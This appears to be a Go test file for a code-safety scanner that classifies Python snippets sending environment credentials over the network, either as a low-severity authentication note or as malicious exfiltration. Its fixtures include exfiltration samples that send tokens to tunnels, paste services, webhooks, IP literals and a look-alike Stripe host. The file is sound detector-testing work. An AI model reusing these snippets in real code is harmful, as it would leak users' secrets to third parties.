package main

import (
	"slices"
	"strings"
	"testing"

	"github.com/limitgraph/limit/sdk/governance"
)

// TestCredentialsSent checks how a credential from the environment sent over the network
// is judged. As authentication (headers=, auth=) over https to a literal host it is what
// every API client does: at most a note (credential-sent, flag unverified, which default
// lets run and merge), none for the service the variable is named for. It stays
// exfiltration (malicious) when the destination is suspicious or the credential is not
// sent as authentication. Each reason names the variables and the host.
func TestCredentialsSent(t *testing.T) {
	r := configured(t, `{}`)
	const (
		note  = "codesafety.credential-sent"
		exfil = "codesafety.exfiltration"
	)
	for _, tt := range []struct {
		name, code string
		rule       string // "" for no finding at all
		line       int
		reason     []string // words the reason must hold
	}{
		// The variable's own service: no finding.
		{"own service by its name", "import os, requests\nrequests.get('https://api.pagerduty.com/incidents', headers={'Authorization': 'Token token=' + os.environ['PAGERDUTY_TOKEN']})\n", "", 0, nil},
		{"own service, .ai", "import os, requests\nrequests.post('https://api.mistral.ai/v1/chat/completions', headers={'Authorization': 'Bearer ' + os.environ['MISTRAL_API_KEY']}, json={'model': 'm'})\n", "", 0, nil},
		// Authentication to another literal https host: a note naming variable and host.
		{"header to a SaaS API", "import os, requests\nh = {'Authorization': 'Bearer ' + os.environ['SENTRY_AUTH_TOKEN']}\nrequests.get('https://sentry.io/api/0/projects/', headers=h)\n", note, 3, []string{"SENTRY_AUTH_TOKEN", "sentry.io"}},
		{"generic name to the company's API", "import os, requests\nrequests.post('https://internal-api.example.org/v2/jobs', headers={'X-Api-Token': os.environ['API_TOKEN']}, json={'job': 1})\n", note, 2, []string{"API_TOKEN", "internal-api.example.org"}},
		{"basic auth to a registry", "import os, requests\nrequests.get('https://registry.example.net/v2/_catalog', auth=('ci', os.environ['REGISTRY_PASSWORD']))\n", note, 2, []string{"REGISTRY_PASSWORD", "registry.example.net"}},
		{"two keys of one service", "import os, requests\nh = {'DD-API-KEY': os.environ['DD_API_KEY'], 'DD-APPLICATION-KEY': os.environ['DD_APP_KEY']}\nrequests.get('https://api.datadoghq.eu/api/v1/monitor', headers=h)\n", note, 3, []string{"DD_API_KEY, DD_APP_KEY", "api.datadoghq.eu"}},
		{"host with a port", "import os, requests\nrequests.get('https://search.example.io:9243/_cluster/health', headers={'Authorization': 'ApiKey ' + os.environ['ELASTIC_API_KEY']})\n", note, 2, []string{"ELASTIC_API_KEY", "search.example.io"}},
		{"httpx client base_url", "import os, httpx\nc = httpx.Client(base_url='https://api.together.xyz', headers={'Authorization': f\"Bearer {os.environ['TOGETHER_API_KEY']}\"})\n", note, 2, []string{"TOGETHER_API_KEY", "api.together.xyz"}},
		{"http.client putheader", "import http.client, os\nc = http.client.HTTPSConnection('gitlab.corp.example')\nc.putheader('PRIVATE-TOKEN', os.environ['CI_JOB_TOKEN'])\n", note, 3, []string{"CI_JOB_TOKEN", "gitlab.corp.example"}},
		{"urllib Request, then urlopen", "import os, urllib.request\nq = urllib.request.Request('https://api.together.xyz/v1/models', headers={'Authorization': 'Bearer ' + os.environ['TOGETHER_API_KEY']})\nwith urllib.request.urlopen(q) as resp:\n    print(resp.read())\n", note, 2, []string{"TOGETHER_API_KEY", "api.together.xyz"}},
		// Suspicious destinations: exfiltration, naming what and where.
		{"tunnel", "import os, requests\nrequests.get('https://3f2a-198-51-100-4.ngrok-free.app/', headers={'X': os.environ['SENTRY_AUTH_TOKEN']})\n", exfil, 2, []string{"SENTRY_AUTH_TOKEN", "ngrok-free.app", "tunnel"}},
		{"request capture", "import os, requests\nrequests.put('https://eo1x2y3z.m.pipedream.net', auth=('u', os.environ['API_TOKEN']))\n", exfil, 2, []string{"API_TOKEN", "m.pipedream.net"}},
		{"paste service", "import os, requests\nrequests.post('https://pastebin.com/api/api_post.php', headers={'X': os.environ['NPM_TOKEN']})\n", exfil, 2, []string{"NPM_TOKEN", "pastebin.com"}},
		{"chat webhook", "import os, requests\nrequests.post('https://discordapp.com/api/webhooks/123/xyz', headers={'X': os.environ['NPM_TOKEN']}, json={'content': 'hi'})\n", exfil, 2, []string{"NPM_TOKEN", "discordapp.com"}},
		{"IPv4 literal", "import os, requests\nrequests.get('https://198.51.100.7:8443/in', headers={'Authorization': os.environ['API_TOKEN']})\n", exfil, 2, []string{"API_TOKEN", "198.51.100.7", "IP"}},
		{"IPv6 literal", "import os, requests\nrequests.get('https://[2001:db8::5]/in', headers={'Authorization': os.environ['API_TOKEN']})\n", exfil, 2, []string{"API_TOKEN", "2001:db8::5", "IP"}},
		{"plain http", "import os, requests\nrequests.get('http://metrics.example.org/push', headers={'Authorization': os.environ['API_TOKEN']})\n", exfil, 2, []string{"API_TOKEN", "metrics.example.org", "plain http"}},
		{"host from the command line", "import os, sys, requests\nrequests.get(sys.argv[1], headers={'Authorization': os.environ['API_TOKEN']})\n", exfil, 2, []string{"API_TOKEN", "run time"}},
		{"in the body", "import os, requests\nrequests.post('https://internal-api.example.org/v2/jobs', json={'token': os.environ['DEPLOY_TOKEN']})\n", exfil, 2, []string{"DEPLOY_TOKEN", "internal-api.example.org", "body"}},
		{"in the query of another host", "import os, requests\nk = os.environ['STRIPE_SECRET_KEY']\nrequests.get(f'https://internal-api.example.org/v1/items?api_key={k}')\n", exfil, 3, []string{"STRIPE_SECRET_KEY", "internal-api.example.org", "URL"}},
		{"whole environment in headers", "import os, requests\nrequests.get('https://internal-api.example.org/', headers=dict(os.environ))\n", exfil, 2, []string{"whole environment", "internal-api.example.org"}},
		{"many credentials", "import os, requests\nrequests.get('https://internal-api.example.org/', headers={'a': os.environ['NPM_TOKEN'], 'b': os.environ['PYPI_TOKEN'], 'c': os.environ['GITHUB_TOKEN']})\n", exfil, 2, []string{"GITHUB_TOKEN, NPM_TOKEN, PYPI_TOKEN", "3 credentials"}},
		{"a signing key", "import os, requests\nrequests.get('https://internal-api.example.org/', headers={'X-Key': os.environ['AWS_SECRET_ACCESS_KEY']})\n", exfil, 2, []string{"AWS_SECRET_ACCESS_KEY", "signs"}},
		{"look-alike of the service", "import os, requests\nrequests.get('https://api.stripe.com.billing-check.example/v1/charges', auth=(os.environ['STRIPE_SECRET_KEY'], ''))\n", exfil, 2, []string{"STRIPE_SECRET_KEY", "imitates stripe.com"}},
		{"urlopen with the key as data", "import os, urllib.request\nq = urllib.request.Request('https://api.together.xyz/v1/models')\nurllib.request.urlopen(q, data=os.environ['TOGETHER_API_KEY'].encode())\n", exfil, 3, []string{"TOGETHER_API_KEY", "body"}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			fs := evaluate(t, r, tt.code)
			if tt.rule == "" {
				if len(fs) != 0 {
					t.Fatalf("flagged: %+v", fs)
				}
				return
			}
			i := slices.IndexFunc(fs, func(f governance.Finding) bool {
				return f.RuleID == tt.rule && f.Location != nil && f.Location.Line == tt.line
			})
			if i < 0 {
				t.Fatalf("no %s finding on line %d in %+v", tt.rule, tt.line, fs)
			}
			f := fs[i]
			if tt.rule == note {
				if len(fs) != 1 || f.Flag != governance.FlagUnverified || f.Severity > 3 {
					t.Fatalf("want one low unverified note, got %+v", fs)
				}
			} else if f.Flag != governance.FlagMalicious || f.Severity < 5 {
				t.Fatalf("finding %+v: want malicious with severity ≥5", f)
			}
			for _, w := range tt.reason {
				if !strings.Contains(f.Reason, w) {
					t.Errorf("reason %q lacks %q", f.Reason, w)
				}
			}
		})
	}
}
